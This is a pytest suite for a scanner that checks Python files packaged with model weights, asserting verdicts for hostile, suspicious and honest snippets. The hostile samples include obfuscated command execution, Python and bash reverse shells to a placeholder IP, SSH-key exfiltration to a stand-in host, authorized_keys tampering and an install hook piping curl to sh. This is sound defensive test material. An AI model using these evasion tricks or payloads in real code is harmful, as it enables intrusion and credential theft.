# SPDX-License-Identifier: Apache-2.0
"""Python beside the weights: what is hostile wherever it hides, and what honest code does."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steelyard.kernel.finding import Coverage, FileReport, Severity, Verdict
from steelyard.kernel.inspection import InspectionRequest, TreeFile
from steelyard.scanning.runner import Runner

HOSTILE = [
    "import os as o; s = o.system; s('id')",
    """\
from os import *
system('id')
""",
    """\
import os
f = getattr(os, 'sys'+'tem')
f('id')
""",
    """\
import os
d = {'a': os.system}
d['a']('id')
""",
    """\
import os
[os.system][0]('id')
""",
    """\
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwtFAAAAd1Ak0=')))
""",
    "exec(''.join(chr(x) for x in [105,109,112,111,114,116,32,111,115]))",
    "exec(''.join(map(chr,[105,109])))",
    "exec(\"so tropmi;)'di'(metsys.so\"[::-1])",
    """\
import codecs
exec(codecs.decode("vzcbeg bf; bf.flfgrz('vq')","rot13"))
""",
    'exec(bytes.fromhex("696d706f7274206f73").decode())',
    """\
import marshal
exec(marshal.loads(b"xx"))
""",
    """\
import marshal, types
types.FunctionType(marshal.loads(b"xx"), globals())()
""",
    """\
import urllib.request
exec(urllib.request.urlopen('http://x/').read())
""",
    """\
import requests
exec(requests.get('http://x/').text)
""",
    "__builtins__.__dict__['ev'+'al'](\"__import__('os').system('id')\")",
    'eval(compile("import os\\nos.system(\'id\')", "x", "exec"))',
    """\
class A:
    import os
    os.system('id')
""",
    """\
import os
def f(x=os.system('id')): pass
""",
    """\
import os
class M(type):
    def __init__(c, *a): os.system('id')
class X(metaclass=M): pass
""",
    """\
import os
class B:
    def __init_subclass__(c): os.system('id')
class C(B): pass
""",
    """\
import os
def d(f): os.system('id'); return f
@d
def g(): pass
""",
    """\
@exec
@input
class X: pass
""",
    """\
class A: pass
import os
class A:
    __class_getitem__ = os.system
A['id']
""",
    """\
import os
if True:
    os.system('id')
""",
    """\
import os
def main(): os.system('id')
main()
""",
    """\
import os
class R:
    def run(self): os.system('id')
R().run()
""",
    """\
import socket,os,pty
def h():
    s=socket.socket(); s.connect(('1.2.3.4',4444))
    [os.dup2(s.fileno(),f) for f in (0,1,2)]
    pty.spawn('/bin/sh')
""",
    """\
import os
def h(): os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')
""",
    """\
import os
open(os.path.expanduser('~/.bashrc'),'a').write('x')
""",
    """\
import pathlib
(pathlib.Path.home()/'.ssh'/'authorized_keys').write_text('x')
""",
    """\
import requests, os
def load():
    requests.post('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())
""",
    """\
import requests, socket
requests.get('http://x/?h=' + socket.gethostname())
""",
    """\
from setuptools import setup
from setuptools.command.install import install
import os
class I(install):
    def run(self):
        os.system('curl http://x | sh')
setup(cmdclass={'install': I})
""",
    """\
import threading, os
threading.Thread(target=os.system, args=('id',)).start()
""",
    "list(map(__import__('os').system, ['id']))",
    """\
import random
random._os.system('id')
""",
    """\
import sys
sys.modules['os'].system('id')
""",
    "print.__self__.exec(\"import os; os.system('id')\")",
    """\
import os
globals()['os'].system('id')
""",
    "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')",
    """\
import importlib
importlib.import_module('o'+'s').__dict__['system']('id')
""",
    """\
import atexit, os
atexit.register(os.system, 'id')
""",
    """\
def dec(s, k):
    out = ''
    for c in s: out += chr(ord(c) ^ k)
    return out
exec(dec('xyz', 5))
""",
    """\
import os
x = os
y = x
getattr(y, "metsys"[::-1])('id')
""",
    """\
from cryptography.fernet import Fernet
exec(Fernet(b'k').decrypt(b'x'))
""",
    """\
import os, functools
functools.partial(os.system, 'id')()
""",
    """\
import os
try:
    os.popen('id').read()
except Exception: pass
""",
    """\
import os
with os.popen('id') as f: pass
""",
    """\
import os
async def f(): pass
x = [os.system(c) for c in ['id']]
""",
    """\
import os
x = lambda: os.system('id')
x()
""",
    """\
import asyncio, os
async def main(): os.system('id')
asyncio.run(main())
""",
    """\
import os
os.environ['X']; os.execvp('sh', ['sh','-c','id'])
""",
    """\
from subprocess import Popen as P
P('id', shell=True)
""",
    "__import__('sub'+'process').run(['id'])",
    """\
import os
(lambda f: f('id'))(os.system)
""",
    """\
import os
def apply(f, x): return f(x)
apply(os.system, 'id')
""",
    """\
import urllib.request, os
urllib.request.urlretrieve('http://x/a', '/tmp/a'); os.chmod('/tmp/a', 0o755); os.system('/tmp/a')
""",
    """\
import base64
code = base64.b64decode('aW1wb3J0IG9z')
g = {}
def run(c): exec(c, g)
run(code)
""",
]
SUSPICIOUS = [
    "import ctypes\nctypes.CDLL('/tmp/x.so')",
    "import pip\npip.main(['install', 'x'])",
    "import subprocess\nclass P:\n    def __reduce__(self): return (subprocess.call, (['id'],))",
    "import pickle\ndef load(p): return pickle.load(open(p, 'rb'))",
    "import os\ndef f(c): os.system('convert ' + c)",
    "def f(text): return eval(text)",
    "import torch\ndef f(p): return torch.load(p, weights_only=False)",
    "from transformers import AutoModel\nm = AutoModel.from_pretrained('x', trust_remote_code=True)",  # noqa: E501
    "import yaml\ndef f(p): return yaml.load(open(p), Loader=yaml.Loader)",
    "# coding: utf-7\nx = 1",
    "acc\u0435ss = 1\nprint(acc\u0435ss)",
    "x = 1  # \u202e } if admin {\u2066",
    "import requests\nrequests.get('https://example.org/labels.json')",
    "import builtins\nbuiltins.__import__ = lambda *a: None",
]
HONEST = [
    "import torch\nclass M(torch.nn.Module):\n    def forward(self, x): return x\n",
    "import torch\ndef load(p): return torch.load(p, map_location='cpu', weights_only=True)\n",
    "import subprocess\nhead = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
    "import os\nfor name in os.environ: print(name)\nos.makedirs('out', exist_ok=True)\n",
    "import re\nP = re.compile('a')\nmodel.eval()\n",
    (
        "import os, requests\ndef get(u):\n    key = os.environ['API_KEY']\n"
        "    return requests.get(u, headers={'Authorization': key})\n"
    ),
    "import pickle\ndef copy(x): return pickle.loads(pickle.dumps(x))\n",
    "import base64\nLOGO = base64.b64decode('aGVsbG8=')\n",
    "import shutil\ndef clean(path): shutil.rmtree(path / 'cache')\n",
    "import yaml\ndef f(p): return yaml.safe_load(open(p))\n",
    "import os\nos.system('')\n",
    "x = 'caf\u00e9'\n\u03b1 = 0.5\n",
]


def examine(path: Path, text: str) -> FileReport:
    path.write_text(text, encoding="utf-8")
    file = TreeFile(path.name, str(path), path.stat().st_size)
    (report,) = Runner(InspectionRequest(files=(file,))).reports()
    return report


@pytest.mark.parametrize("code", HOSTILE)
def test_hostile_code_is_malicious_however_it_hides(tmp_path: Path, code: str) -> None:
    name = "setup.py" if "setuptools" in code else "modeling.py"
    report = examine(tmp_path / name, code)
    assert report.verdict is Verdict.MALICIOUS, report.findings


@pytest.mark.parametrize("code", SUSPICIOUS)
def test_dangerous_code_is_for_a_person(tmp_path: Path, code: str) -> None:
    report = examine(tmp_path / "modeling.py", code)
    assert report.verdict is Verdict.SUSPICIOUS, report.findings


@pytest.mark.parametrize("code", HONEST)
def test_honest_code_is_clean(tmp_path: Path, code: str) -> None:
    report = examine(tmp_path / "modeling.py", code)
    assert report.verdict is Verdict.CLEAN, report.findings
    assert report.traits.remote_code


def test_what_is_hidden_in_a_text_is_examined_as_well(tmp_path: Path) -> None:
    code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n"
    report = examine(tmp_path / "modeling.py", code)
    assert {"code.runs-hidden-code", "code.executes"} <= {f.rule for f in report.findings}


def test_every_finding_says_where_and_what(tmp_path: Path) -> None:
    report = examine(tmp_path / "handler.py", "import os\n\nos.system('id')\n")
    (found,) = (f for f in report.findings if f.severity is Severity.CRITICAL)
    assert found.location == "line 3"
    assert found.evidence == "os.system('id')"


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "+".join(["'a'"] * 20_000),
        "x = " + "f(" * 400 + ")" * 400,
        "\n".join(f"def f{n}(): return f{n + 1}()" for n in range(3000)) + "\nf0()\n",
        "x = [" + "1," * 100_000 + "]\n" + "y = [chr(i) for i in x]\n" * 50,
        "a = 'x'\n" + "a = a + a\n" * 200,
        "x = a" + ".b()" * 3000,
        "'" + "\\x41" * 200_000 + "'\n",
        "".join(f"{' ' * n}if x:\n" for n in range(90)) + " " * 90 + "pass\n",
    ],
)
def test_crafted_code_is_followed_in_time(tmp_path: Path, code: str) -> None:
    begun = time.process_time()
    examine(tmp_path / "x.py", code)
    assert time.process_time() - begun < 20


def test_python_too_large_to_parse_is_a_gap(tmp_path: Path) -> None:
    report = examine(tmp_path / "x.py", "x = 1\n" * 800_000)
    assert report.coverage is Coverage.PARTIAL


@settings(max_examples=60)
@given(st.sampled_from(HOSTILE + HONEST), st.integers(0, 300), st.text(max_size=3))
def test_changed_code_never_breaks_the_walk(code: str, at: int, piece: str) -> None:
    from steelyard.kernel.limits import DEFAULT_LIMITS
    from steelyard.scanning.interface import Context, Examination
    from steelyard.scanning.rules.python_files import judge_python

    changed = (code[:at] + piece + code[at + 1 :]).encode("utf-8", "replace")
    into = Examination(DEFAULT_LIMITS)
    judge_python(Context(path="x.py", format="python", limits=DEFAULT_LIMITS), changed, into)
